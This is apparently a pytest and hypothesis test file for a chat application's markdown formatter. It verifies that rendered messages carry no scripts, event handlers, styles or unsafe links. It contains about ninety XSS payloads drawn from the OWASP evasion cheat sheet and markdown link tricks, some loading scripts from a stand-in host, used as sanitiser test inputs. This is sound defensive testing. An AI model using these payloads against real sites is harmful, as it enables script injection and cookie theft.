"""Message formatting (chat/formatting.py): what markdown a body may use, and that whatever
it holds, the stored HTML has no script, no event handler, no style and no link a browser
would run. Each output is parsed and checked, not searched for strings."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat import formatting
from chat.formatting import PLAIN_RE, render, render_markdown

# Every tag and attribute the sanitiser may let through (docs/protocol.md, MSG `html`).
TAGS = {
    "p": set(),
    "br": set(),
    "em": set(),
    "strong": set(),
    "s": set(),
    "code": set(),
    "pre": set(),
    "blockquote": set(),
    "ul": set(),
    "ol": {"start"},
    "li": set(),
    "a": {"href", "title", "target", "rel"},
    "span": {"class"},
    "button": {"type", "class", "data-username", "aria-haspopup", "aria-expanded"},
}
SCHEMES = {"http", "https", "mailto"}

# Derived from the OWASP XSS filter-evasion cheat sheet, plus the same tricks in markdown's
# own link syntax, autolinks, bare links, code and mentions.
HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<iframe src=http://xss.example/scriptlet.html <",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9z'
    'dmciIG9ubG9hZD0iYWxlcnQoMSkiPjwvc3ZnPg==">',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<details open ontoggle=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x",
    "<b onmouseover=alert(1)>unclosed",
    '<button type=button class="mention person" data-username=x onclick=alert(1)>@x</button>',
    '<span class=mention style="position:fixed">x</span>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
MARKDOWN_PAYLOADS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](java%0ascript:alert(1))",
    "[click](java\\script:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](javascript:alert`1`)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](//xss.example/x.js)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](https://example.com/x.png)",
    '![x](https://example.com/x.png "onerror=alert(1)")',
    '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
    '[a](https://example.com/"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "[**x**<script>](https://example.com)",
    "**<script>alert(1)</script>**",
    "~~<svg onload=alert(1)>~~",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "```html onload=alert(1)\n<b>x</b>\n```",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>\n- [x](javascript:alert(1))",
    "1. <iframe src=javascript:alert(1)>",
    "@<script>alert(1)</script>",
    "@alice<img src=x onerror=alert(1)>",
    ":<script>: :smile:<img src=x onerror=alert(1)>",
    "www.example.com/<script>alert(1)</script>",
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/?q=<img src=x onerror=alert(1)>",
    "https://example.com/'onmouseover='alert(1)'",
    "mailto:<script>@example.com",
    "a@b.example<script>alert(1)</script>",
    "javascript:alert(1)",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "*<img src=x onerror=alert(1)*>*",
    "[x](https://example.com)<img src=x onerror=alert(1)>",
]
PAYLOADS = HTML_PAYLOADS + MARKDOWN_PAYLOADS


class Elements(HTMLParser):
    """Every start tag of a fragment, with its attributes, as a browser's parser sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = Elements()
    parser.feed(html)
    parser.close()
    assert not parser.comments, html
    return parser.elements


def assert_safe(html: str) -> None:
    """Only the allowed tags and attributes; no event handler, no style; every link http,
    https or mailto, opened in a new tab without the opener, and a mention's name a name."""
    for tag, attrs in elements(html):
        assert tag in TAGS, f"<{tag}> in {html!r}"
        assert set(attrs) <= TAGS[tag], f"<{tag} {attrs}> in {html!r}"
        assert not any(name.startswith("on") for name in attrs), html
        if tag == "a":
            assert urlsplit(attrs["href"].strip()).scheme.lower() in SCHEMES, html
            assert attrs["target"] == "_blank", html
            assert set(attrs["rel"].split()) == {"noopener", "noreferrer", "nofollow"}, html
        if tag == "button":
            assert attrs["type"] == "button", html


@pytest.mark.parametrize("body", PAYLOADS)
def test_a_hostile_body_renders_to_nothing_that_runs(body):
    assert_safe(render(body, people={"alice"}))


@pytest.mark.parametrize("body", [p for p in HTML_PAYLOADS if not p.startswith("<!--")])
def test_raw_html_in_a_body_shows_as_its_text(body):
    html = render(body)

    # Only what markdown makes of the text around the tags: a paragraph, a bare link, `code`.
    assert {tag for tag, _ in elements(html)} <= {"p", "br", "a", "code"}, html
    assert "&lt;" in html


@pytest.mark.parametrize(
    "body",
    [
        "[click](javascript:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](data:text/html,hi)",
        "[click](vbscript:msgbox(1))",
        "[click](file:///etc/passwd)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
    ],
)
def test_a_link_to_another_scheme_is_no_link(body):
    html = render(body)

    assert "<a " not in html
    assert [tag for tag, _ in elements(html)] == ["p"]


@pytest.mark.parametrize(
    "body",
    [
        "<http://>",  # no host
        "<https://>",
        "[click](http://)",
        "[click](https://[::1)",  # an IPv6 address left open
        "<http://example.com:99999>",  # no such port
        "[click](http://exa%20mple.com)",  # a space in the host
        "[click](http://exa%zzmple.com)",
    ],
)
def test_a_link_ammonia_cannot_parse_stays_text_not_a_link_to_nowhere(body):
    """Ammonia drops an href it cannot parse; markdown-it asks it first, so the text stays
    text instead of becoming an anchor with no href (found by the property test below)."""
    html = render(body)

    assert all("href" in attrs for tag, attrs in elements(html) if tag == "a"), html
    assert "click" in html or body.strip("<>") in html


# Text built from the pieces attacks are made of, in any order: every rendering stays safe.
# fmt: off
PIECES = st.sampled_from(
    [
        "<", ">", "\"", "'", "`", "&", "#", ";", ":", "/", "\\", "(", ")", "[", "]", "!", "*",
        "_", "~", "@", "=", " ", "\n", "\t", "\x0b", "&#106;", "&#x3c;", "&lt;", "javascript",
        "JaVaScRiPt:", "data:", "vbscript:", "http://", "https://x.example", "mailto:",
        "www.", ".com", "script", "img", "svg", "iframe", "style", "onerror", "onload",
        "src", "href", "alert(1)", "```", "> ", "- ", "1. ", "alice", ":smile:", "<!--",
    ]
)
# fmt: on


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join) | st.text(max_size=200))
def test_any_body_renders_to_nothing_that_runs(body):
    assert_safe(render(body, people={"alice"}))


# Plain text skips the parser -------------------------------------------------------------

# Near misses: the characters the shortcut takes, and those that make markup, links,
# addresses, lists, shortcodes, mentions or escapes next to them.
# fmt: off
NEAR_PLAIN = st.lists(
    st.sampled_from(
        [
            "a", "Z", "é", "ß", "日", "٣", "Ⅻ", "7", "10", " ", "  ", ",", ";", "!", "?", "'",
            ".", ". ", "..", ":", "@", "_", "*", "~", "`", "-", "+", ")", "1.", "2)", "#",
            "&", "<", ">", '"', "\\", "\n", "\t", "\xa0", "www", ".com", "x.example",
            "http", "//", "mailto", "smile", "alice", "u\u0301",
        ]
    ),
    min_size=1,
    max_size=12,
).map("".join)
# fmt: on


@settings(max_examples=500, deadline=None)
@given(st.from_regex(PLAIN_RE, fullmatch=True) | NEAR_PLAIN)
def test_a_body_the_shortcut_takes_renders_as_the_parser_and_sanitiser_would(body):
    if PLAIN_RE.fullmatch(body):
        assert render_markdown(body, people={"alice"}) == f"<p>{body}</p>"
    assert render(body, people={"alice"}) == render_markdown(body, people={"alice"})


@pytest.mark.parametrize(
    "body",
    [
        "bench message 12 xxxx",
        "Sure. See you at 5, ok?",
        "it's fine!",
        "12 apples",
        "日本語 です",
        "x.",
    ],
)
def test_plain_text_is_not_parsed(body, monkeypatch):
    def parse(*args, **kwargs):
        raise AssertionError("parsed")

    monkeypatch.setattr(formatting._MD, "render", parse)
    assert render(body) == f"<p>{body}</p>"


@pytest.mark.parametrize(
    "body",
    [
        "1. item",
        "2) item",
        "a.b",
        "example.com",
        "e.g. this",
        "x..",
        "hi ",
        " hi",
        "a:smile:",
        "@alice",
        "a_b",
        "a\nb",
        "a & b",
        "x.example",
        "tea\xa0time",
        'say "hi"',
    ],
)
def test_text_that_could_be_markup_goes_to_the_parser(body):
    assert not PLAIN_RE.fullmatch(body)


# What a body may use ---------------------------------------------------------------------


def test_emphasis_strong_strikethrough_and_inline_code():
    html = render("*a* _b_ **c** ~~d~~ `e <f>`")

    assert html == (
        "<p><em>a</em> <em>b</em> <strong>c</strong> <s>d</s> <code>e &lt;f&gt;</code></p>"
    )


def test_a_fenced_code_block_keeps_its_text_unformatted_and_escaped():
    html = render("```python\n**not bold** <b>x</b> @alice :smile:\n```", people={"alice"})

    assert html == ("<pre><code>**not bold** &lt;b&gt;x&lt;/b&gt; @alice :smile:\n</code></pre>")


def test_quotes_and_lists():
    html = render("> said\n\n- one\n- two\n\n3. three\n4. four")

    tags = [tag for tag, _ in elements(html)]
    assert tags == ["blockquote", "p", "ul", "li", "li", "ol", "li", "li"]
    assert '<ol start="3">' in html


def test_links_bare_angled_and_written_open_safely_in_a_new_tab():
    html = render("see example.com, <https://a.example/x?y=1> and [docs](https://b.example)")

    links = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert [link["href"] for link in links] == [
        "http://example.com",
        "https://a.example/x?y=1",
        "https://b.example",
    ]
    for link in links:
        assert (link["target"], link["rel"]) == ("_blank", "noopener noreferrer nofollow")


def test_an_email_address_is_a_mailto_link_and_not_a_mention():
    html = render("write to bob@example.com", people={"example.com", "bob"})

    assert 'href="mailto:bob@example.com"' in html
    assert "mention" not in html


def test_a_line_break_in_a_paragraph_is_kept():
    assert render("one\ntwo") == "<p>one<br>\ntwo</p>"


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ("# not a heading", "<p># not a heading</p>"),
        ("---", "<p>---</p>"),
        ("a\n---", "<p>a<br>\n---</p>"),
        ("    four spaces", "<p>four spaces</p>"),
        ("| a | b |\n|---|---|", "<p>| a | b |<br>\n|---|---|</p>"),
    ],
)
def test_headings_rules_tables_and_indented_code_stay_text(body, html):
    assert render(body) == html


def test_a_markdown_image_is_a_link_at_most_never_an_image():
    html = render("![cat](https://example.com/cat.png)")

    assert "<img" not in html
    assert 'href="https://example.com/cat.png"' in html


def test_shortcodes_become_emoji_and_unknown_ones_stay_text():
    assert render(":smile: :+1: :tada: :no_such_emoji: 10:30:45") == (
        "<p>\U0001f604 \U0001f44d \U0001f389 :no_such_emoji: 10:30:45</p>"
    )


def test_a_mention_of_someone_is_the_button_their_profile_card_opens_from():
    html = render("hi @alice. and @ghost", people={"alice"})

    assert html == (
        '<p>hi <button type="button" class="mention person" data-username="alice"'
        ' aria-haspopup="dialog" aria-expanded="false">@alice</button>. and @ghost</p>'
    )


def test_room_and_here_are_marked_in_any_case():
    html = render("@room and @Here")

    assert html == (
        '<p><span class="mention">@room</span> and <span class="mention">@Here</span></p>'
    )


def test_a_mention_in_code_or_in_a_links_text_stays_as_written():
    html = render("`@alice` [@alice](https://example.com) **@alice**", people={"alice"})

    assert html.count("data-username") == 1
    assert "<strong><button" in html
    assert "<code>@alice</code>" in html
